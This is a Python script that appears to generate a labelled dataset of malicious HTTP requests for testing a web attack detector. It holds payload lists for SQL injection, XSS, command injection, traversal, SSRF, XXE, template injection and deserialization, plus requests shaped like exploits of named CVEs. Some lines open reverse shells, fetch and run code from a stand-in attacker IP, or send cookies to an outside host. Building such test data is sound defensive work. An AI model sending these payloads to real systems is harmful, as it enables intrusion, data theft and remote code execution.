#!/usr/bin/env python3
"""Generates attacks.jsonl: attack requests in the dataset format of shared/datasets/README.md,
written for Periscope from the author's knowledge (not copied from payload collections):
payloads per class placed in every request point with several encodings, and requests shaped
like real exploits of known CVEs. Deterministic (seeded).

Usage: python3 gen_attacks.py > attacks.jsonl
"""
import base64, json, random, sys
from urllib.parse import quote

R = random.Random(4471)

P = {
    "sqli": ["1' AND 1=CONVERT(int,(SELECT @@version))--", "' OR 1=1 LIMIT 1 -- -", "1 AND (SELECT 4523 FROM (SELECT(SLEEP(5)))abc)", "admin'/**/OR/**/'x'='x", "1;WAITFOR DELAY '0:0:7'--",
             "-5 UNION SELECT NULL,table_name,NULL FROM information_schema.tables#", "1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- x", "' || (SELECT pg_sleep(4)) || '", "x') OR ('a'='a",
             "1 OR 2>1", "10 ORDER BY 7--", "1'; DROP TABLE sessions; --", "\" or \"\"=\"", "' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a", "1 AND ASCII(SUBSTR((SELECT banner FROM v$version WHERE rownum=1),1,1))>64",
             "1) UNION ALL SELECT username||':'||password FROM users--", "' GROUP BY id HAVING 1=1--", "';EXEC master..xp_cmdshell 'ping 10.0.0.9'--", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "%' AND 8310=8310 AND '%'='"],
    "xss": ["<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<img src=1 onerror=\"fetch('//x.example/'+document.cookie)\">", "\"><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", "<details open ontoggle=confirm(2)>",
            "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "'><script src=//x.example/h.js></script>", "<body/onpageshow=alert(1)>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<input autofocus onfocus=top['al'+'ert'](1)>", "\";alert(String.fromCharCode(88,83,83));//", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "<video><source onerror=\"eval(atob('YWxlcnQoMSk='))\">", "<marquee onstart=prompt(document.domain)>", "{{constructor.constructor('alert(1)')()}}", "<form action=javascript:alert(1)><input type=submit>"],
    "rce": ["; /bin/cat /etc/shadow", "| nc -e /bin/sh 10.0.0.5 4444", "`wget -q -O- http://198.51.100.7/x|sh`", "$(whoami)", "&& curl http://198.51.100.7/`id`", "; powershell -enc SQBFAFgA", "|| ping -c 9 127.0.0.1 ||",
            "\nuname -a\n", "a;bash -i >& /dev/tcp/198.51.100.7/9001 0>&1", "127.0.0.1%0aid", "x|c''at${IFS}/e??/p?ss?d", "; certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe", "<?php system($_GET['c']); ?>",
            "__import__('os').popen('id').read()", "${@print(md5(31337))}", "; sleep 10 #"],
    "ptrav": ["../../../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fshadow", "....//....//....//etc/hosts", "..\\..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron",
              "/var/www/../../etc/passwd%00.png", "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "..%c0%af..%c0%af..%c0%afetc/passwd", "../../WEB-INF/web.xml", "C:\\boot.ini", "/proc/self/cmdline"],
    "ssrf": ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://[::1]:22/", "http://0x7f.0x0.0x0.0x1/admin", "gopher://localhost:25/_HELO%20x", "http://metadata.google.internal/computeMetadata/v1/",
             "http://127.1:8080/actuator/env", "dict://127.0.0.1:11211/stats", "http://017700000001/", "http://localhost.localtest.me/", "http://10.0.0.1:2375/containers/json"],
    "xxe": ['<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]><d>&x;</d>', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://198.51.100.7/e.dtd"> %p;]><r/>',
            '<?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY bar SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]><foo>&bar;</foo>',
            '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></x>'],
    "ssti": ["{{''.__class__.__mro__[1].__subclasses__()}}", "${7*191}", "<%= `id` %>", "#{7*7}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
             "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", "*{T(java.lang.System).getenv()}", "{% import os %}{{ os.system('id') }}", "{{7*'7'}}", "@(7*7)", "{php}echo `id`;{/php}"],
    "nosqli": ['{"username": {"$ne": null}, "password": {"$ne": null}}', '{"$where": "this.password.match(/^a/)"}', "admin' || '1'=='1", '{"user": {"$regex": "^adm"}, "pass": {"$gt": ""}}', "'; return true; var x='"],
    "ldapi": ["admin)(&)", "*)(uid=*))(|(uid=*", "*)(|(mail=*)", "admin)(|(password=*))", "x*)(objectClass=*"],
    "xpathi": ["' or count(/*)=1 or 'x'='y", "') or name(/*[1])='users' or ('a'='b", "x' or string-length(//user[1]/password)>0 or 'a'='b", "'] | //* | //*['"],
    "crlf": ["%0d%0aLocation:%20http://evil.example/", "foo%0D%0ASet-Cookie:%20admin=1", "%0d%0a%0d%0a<script>alert(1)</script>", "x\r\nX-Injected: 1", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=y"],
    "log4shell": ["${jndi:ldap://198.51.100.7:1389/Exploit}", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.7/o}", "${jndi:dns://${env:HOSTNAME}.x.example}", "${${upper:j}ndi:ldaps://198.51.100.7/a}", "${j${k8s:k5:-ND}i:ldap://198.51.100.7/x}"],
    "mail": ["victim@example.com\r\nBcc: list@spam.example", "x\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\n", "a\r\nA1 LOGIN admin pass\r\nA2 SELECT INBOX", "me@example.com%0ACc:%20others@spam.example"],
    "ssi": ['<!--#include virtual="/etc/passwd"-->', '<!--#echo var="DOCUMENT_ROOT"-->', '<!--#exec cmd="id"-->', '<!--#printenv -->'],
    "deserialization": ["rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVyVmFsdWVz", 'O:17:"Monolog\\Handler":1:{s:6:"stream";s:10:"/tmp/x.php";}', "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
                        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.7/x","autoCommit":true}', "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://198.51.100.7/\"]]]]",
                        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}'],
    "open_redirect": ["//evil.example/", "/\\evil.example", "https://trusted.example@evil.example/", "https:evil.example", "\\\\evil.example"],
}

HOST = "target.test"

def enc(v, how):
    if how == "url":
        return quote(v, safe="")
    if how == "double":
        return quote(quote(v, safe=""), safe="")
    if how == "base64":
        return base64.b64encode(v.encode()).decode()
    if how == "unicode":
        return "".join(f"%u{ord(c):04x}" if not c.isalnum() else c for c in v)
    return v

def case(i, cls, payload, method, target, headers, body=b"", placement="", encoder=""):
    return {"id": f"own-attack-{i:05d}", "set": "own-attacks", "file": "gen_attacks.py", "class": cls, "label": "attack", "encoder": encoder, "placeholder": placement, "payload": payload,
            "method": method, "target": target, "headers": [["Host", HOST]] + headers, "body_b64": base64.b64encode(body).decode()}

UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
out = []
i = 0
for cls, pays in P.items():
    for p in pays:
        places = ["query", "form", "json", "multipart", "header", "cookie", "path", "graphql"]
        if cls == "open_redirect":
            places = ["redirect"]
        if cls == "xxe":
            places = ["xml", "multipart-file"]
        for pl in R.sample(places, min(len(places), 3)):
            how = R.choice(["url", "url", "url", "double", "base64", "unicode"]) if pl in ("query", "path", "redirect") else "plain"
            name = R.choice(["id", "q", "search", "name", "file", "page", "cmd", "host", "email", "template", "user", "url", "data"])
            if pl == "query":
                c = case(i, cls, p, "GET", f"/api/items?{name}={enc(p, how)}&lang=en", [["User-Agent", UA]], placement="URLParam", encoder=how)
            elif pl == "redirect":
                c = case(i, cls, p, "GET", f"/login?next={enc(p, how)}", [["User-Agent", UA]], placement="URLParam", encoder=how)
            elif pl == "form":
                b = f"{name}={quote(p, safe='')}&submit=Send".encode()
                c = case(i, cls, p, "POST", "/contact", [["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", str(len(b))]], b, "HTMLForm", "url")
            elif pl == "json":
                b = json.dumps({"filter": {"field": name, "value": p}, "page": 1}).encode()
                c = case(i, cls, p, "POST", "/api/v2/search", [["Content-Type", "application/json"], ["Content-Length", str(len(b))]], b, "JSONRequest", "plain")
            elif pl == "multipart":
                b = f"--xYz\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{p}\r\n--xYz--\r\n".encode()
                c = case(i, cls, p, "POST", "/upload", [["Content-Type", "multipart/form-data; boundary=xYz"], ["Content-Length", str(len(b))]], b, "HTMLMultipartForm", "plain")
            elif pl == "multipart-file":
                b = f"--xYz\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"a.xml\"\r\nContent-Type: text/xml\r\n\r\n{p}\r\n--xYz--\r\n".encode()
                c = case(i, cls, p, "POST", "/import", [["Content-Type", "multipart/form-data; boundary=xYz"], ["Content-Length", str(len(b))]], b, "MultipartFile", "plain")
            elif pl == "header":
                hn = R.choice(["User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version", "Accept-Language"])
                c = case(i, cls, p, "GET", "/", [[hn, p.replace("\r", "%0d").replace("\n", "%0a")]], placement="Header", encoder="plain")
            elif pl == "cookie":
                c = case(i, cls, p, "GET", "/account", [["Cookie", f"theme=dark; {name}={quote(p, safe='')}"]], placement="Cookie", encoder="url")
            elif pl == "path":
                c = case(i, cls, p, "GET", f"/files/{enc(p, how)}/download", [["User-Agent", UA]], placement="URLPath", encoder=how)
            elif pl == "graphql":
                b = json.dumps({"query": "query Q($v: String!) { search(term: $v) { id } }", "variables": {"v": p}}).encode()
                c = case(i, cls, p, "POST", "/graphql", [["Content-Type", "application/json"], ["Content-Length", str(len(b))]], b, "GraphQL", "plain")
            else:
                b = p.encode()
                c = case(i, cls, p, "POST", "/api/import", [["Content-Type", "application/xml"], ["Content-Length", str(len(b))]], b, "XMLBody", "plain")
            out.append(c)
            i += 1

# Requests shaped like real exploits of known CVEs (written from the advisories' descriptions).
CVE = [
    ("CVE-2021-44228 log4shell", "GET", "/", [["User-Agent", "${jndi:ldap://198.51.100.7:1389/a}"], ["X-Api-Version", "${jndi:ldap://198.51.100.7/b}"]], b""),
    ("CVE-2021-41773 apache path traversal", "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", [], b""),
    ("CVE-2021-42013 apache double-encoded traversal", "GET", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd", [], b""),
    ("CVE-2014-6271 shellshock", "GET", "/cgi-bin/status", [["User-Agent", "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'"]], b""),
    ("CVE-2017-5638 struts2 content-type ognl", "POST", "/struts2-showcase/index.action", [["Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):1).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"]], b""),
    ("CVE-2022-26134 confluence ognl", "GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/", [], b""),
    ("CVE-2022-22965 spring4shell", "POST", "/app/greeting", [["Content-Type", "application/x-www-form-urlencoded"]], b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"),
    ("CVE-2022-22963 spring cloud function spel", "POST", "/functionRouter", [["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")"], ["Content-Type", "text/plain"]], b"x"),
    ("CVE-2019-19781 citrix traversal", "POST", "/vpn/../vpns/portal/scripts/newbm.pl", [["NSC_USER", "../../../netscaler/portal/templates/x"], ["NSC_NONCE", "n"], ["Content-Type", "application/x-www-form-urlencoded"]], b"url=http://example.com&title=[%25+template.new({'BLOCK'='print+`id`'})+%25]&desc=x&UI_inuse=RfWeb"),
    ("CVE-2018-13379 fortinet traversal", "GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", [], b""),
    ("CVE-2019-11510 pulse secure traversal", "GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/", [], b""),
    ("CVE-2021-43798 grafana traversal", "GET", "/public/plugins/alertlist/../../../../../../../../etc/passwd", [], b""),
    ("CVE-2020-14882 weblogic console", "GET", "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)", [], b""),
    ("CVE-2017-10271 weblogic xmldecoder", "POST", "/wls-wsat/CoordinatorPortType", [["Content-Type", "text/xml"]], b'<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array><void method="start"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>'),
    ("CVE-2018-7600 drupalgeddon2", "POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", [["Content-Type", "application/x-www-form-urlencoded"]], b"form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id"),
    ("CVE-2018-20062 thinkphp rce", "GET", "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", [], b""),
    ("CVE-2017-9841 phpunit eval-stdin", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", [["Content-Type", "text/plain"]], b"<?php echo md5('phpunit'); ?>"),
    ("CVE-2019-16759 vbulletin widget", "POST", "/index.php?routestring=ajax/render/widget_php", [["Content-Type", "application/x-www-form-urlencoded"]], b"widgetConfig%5Bcode%5D=echo+shell_exec('id')%3B+exit%3B"),
    ("CVE-2019-15107 webmin password_change", "POST", "/password_change.cgi", [["Referer", "https://target.test/session_login.cgi"], ["Content-Type", "application/x-www-form-urlencoded"]], b"user=root&pam=&expired=2&old=x|id&new1=a&new2=a"),
    ("CVE-2018-10562 gpon router", "POST", "/GponForm/diag_Form?images/", [["Content-Type", "application/x-www-form-urlencoded"]], b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/m+-O+/tmp/m`;sh+/tmp/m&ipv=0"),
    ("CVE-2021-36260 hikvision", "PUT", "/SDK/webLanguage", [["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"]], b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(id>webLib/x)</language>"),
    ("CVE-2021-3129 laravel ignition", "POST", "/_ignition/execute-solution", [["Content-Type", "application/json"]], b'{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x","viewFile":"php://filter/write=convert.base64-decode/resource=../storage/logs/laravel.log"}}'),
    ("CVE-2022-42889 text4shell", "GET", "/text4shell/attack?search=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%7D", [], b""),
    ("CVE-2019-7609 kibana timelion", "POST", "/api/timelion/run", [["Content-Type", "application/json"], ["kbn-xsrf", "true"]], b'{"sheet":[".es(*).props(label.__proto__.env.AAAA=\'require(\\"child_process\\").exec(\\"id\\");process.exit()//\')"],"time":{"from":"now-15m","to":"now","mode":"quick","interval":"10s","timezone":"UTC"}}'),
    ("CVE-2018-1273 spring data spel", "POST", "/users?page=&size=5", [["Content-Type", "application/x-www-form-urlencoded"]], b"username[#this.getClass().forName('java.lang.Runtime').getRuntime().exec('id')]=x&password=x&repeatedPassword=x"),
    ("CVE-2020-10199 nexus el", "POST", "/service/rest/beta/repositories/go/group", [["Content-Type", "application/json"]], b'{"name":"internal","online":true,"storage":{"blobStoreName":"default","strictContentTypeValidation":true},"group":{"memberNames":["$\\\\A{\'\'.getClass().forName(\'java.lang.Runtime\').getMethods()[6].invoke(null).exec(\'id\')}"]}}'),
    ("CVE-2023-22527 confluence template", "POST", "/template/aui/text-inline.vm", [["Content-Type", "application/x-www-form-urlencoded"]], b"label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})%2b\\u0027&x=@org.apache.struts2.ServletActionContext@getResponse().setHeader('X',(new+freemarker.template.utility.Execute()).exec({'id'}))"),
    ("CVE-2024-3400 pan-os cookie traversal", "POST", "/ssl-vpn/hipreport.esp", [["Cookie", "SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/x.txt"], ["Content-Type", "application/x-www-form-urlencoded"]], b"user=a"),
    ("CVE-2019-5418 rails accept traversal", "GET", "/robots", [["Accept", "../../../../../../../../etc/passwd{{"]], b""),
    ("CVE-2023-46805 ivanti traversal", "GET", "/api/v1/totp/user-backup-code/../../system/system-information", [], b""),
    ("CVE-2020-3452 cisco asa traversal", "GET", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../", [], b""),
    ("CVE-2019-11043 php-fpm newline", "GET", "/index.php/PHP%0Ais_the_shittiest_lang.php?a=" + "Q" * 40, [["D-Pisos", "8=D"], ["Ebut", "mamku tvoyu"]], b""),
    ("CVE-2021-26084 confluence ognl param", "POST", "/pages/createpage-entervariables.action", [["Content-Type", "application/x-www-form-urlencoded"]], b"queryString=%5cu0027%2b%7bClass.forName%28%5cu0027javax.script.ScriptEngineManager%5cu0027%29.newInstance%28%29.getEngineByName%28%5cu0027JavaScript%5cu0027%29.%5cu0065val%28%5cu0027var+isWin+%3d+java.lang.System.getProperty%28%5cu0022os.name%5cu0022%29%5cu0027%29%7d%2b%5cu0027"),
    ("CVE-2017-12615 tomcat put jsp", "PUT", "/shell.jsp/", [["Content-Type", "application/octet-stream"]], b'<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
    ("CVE-2020-5902 f5 tmui traversal", "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", [], b""),
    ("CVE-2021-22986 f5 icontrol rce", "POST", "/mgmt/tm/util/bash", [["Authorization", "Basic YWRtaW46"], ["X-F5-Auth-Token", ""], ["Content-Type", "application/json"]], b'{"command":"run","utilCmdArgs":"-c id"}'),
    ("CVE-2022-1388 f5 auth bypass", "POST", "/mgmt/tm/util/bash", [["Connection", "keep-alive, X-F5-Auth-Token"], ["X-F5-Auth-Token", "a"], ["Authorization", "Basic YWRtaW46"], ["Content-Type", "application/json"]], b'{"command":"run","utilCmdArgs":"-c \'cat /etc/passwd\'"}'),
    ("CVE-2023-34362 moveit sqli", "POST", "/moveitisapi/moveitisapi.dll?action=m2", [["X-siLock-Transaction", "folder_add_by_path"], ["X-siLock-Step1", "x';UPDATE activesessions SET UserID='sysadmin' WHERE SessionID='abc';--"]], b""),
    ("CVE-2021-21985 vcenter", "POST", "/ui/h5-vsan/rest/proxy/service/&vsanQueryUtil_setDataService/setTargetObject", [["Content-Type", "application/json"]], b'{"methodInput":[{"type":"ClassPathXmlApplicationContext","args":["http://198.51.100.7/x.xml"]}]}'),
    ("CVE-2015-1427 elasticsearch groovy", "POST", "/_search?pretty", [["Content-Type", "application/json"]], b'{"size":1,"script_fields":{"x":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"id\\").getText()"}}}'),
    ("CVE-2021-25646 druid javascript", "POST", "/druid/indexer/v1/sampler", [["Content-Type", "application/json"]], b'{"type":"index","spec":{"dataSchema":{"transformSpec":{"filter":{"type":"javascript","function":"function(value){return java.lang.Runtime.getRuntime().exec(\'id\')}","dimension":"added","":{"enabled":"true"}}}}}}'),
    ("CVE-2024-4577 php-cgi argument injection", "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", [["Content-Type", "application/x-www-form-urlencoded"]], b"<?php system('whoami'); ?>"),
    ("CVE-2023-50164 struts upload traversal", "POST", "/upload.action", [["Content-Type", "multipart/form-data; boundary=B"]], b'--B\r\nContent-Disposition: form-data; name="Upload"; filename="x.jsp"\r\nContent-Type: text/plain\r\n\r\n<% out.println(1); %>\r\n--B\r\nContent-Disposition: form-data; name="uploadFileName"\r\n\r\n../../../../webapps/ROOT/x.jsp\r\n--B--\r\n'),
    ("CVE-2021-21972 vcenter upload traversal", "POST", "/ui/vropspluginui/rest/services/uploadova", [["Content-Type", "multipart/form-data; boundary=B"]], b'--B\r\nContent-Disposition: form-data; name="uploadFile"; filename="../../../../../../tmp/x.jsp"\r\nContent-Type: application/octet-stream\r\n\r\nx\r\n--B--\r\n'),
    ("request smuggling CL.TE", "POST", "/", [["Content-Length", "13"], ["Transfer-Encoding", "chunked"]], b"0\r\n\r\nSMUGGLED"),
    ("request smuggling TE obfuscation", "POST", "/", [["Content-Length", "4"], ["Transfer-Encoding", "xchunked"]], b"5c\r\n"),
    ("sqlmap scan", "GET", "/item.php?id=1%20AND%209999%3D9999", [["User-Agent", "sqlmap/1.8.2#stable (https://sqlmap.org)"]], b""),
    ("nuclei probe", "GET", "/.git/config", [["User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"]], b""),
]
for name, m, t, h, b in CVE:
    out.append({"id": f"own-attack-{i:05d}", "set": "own-cve", "file": "gen_attacks.py", "class": name, "label": "attack", "encoder": "", "placeholder": "exploit", "payload": "",
                "method": m, "target": t, "headers": [["Host", HOST]] + h + ([["Content-Length", str(len(b))]] if b and not any(k.lower() == "content-length" for k, _ in h) else []), "body_b64": base64.b64encode(b).decode()})
    i += 1
for c in out:
    print(json.dumps(c, ensure_ascii=False))
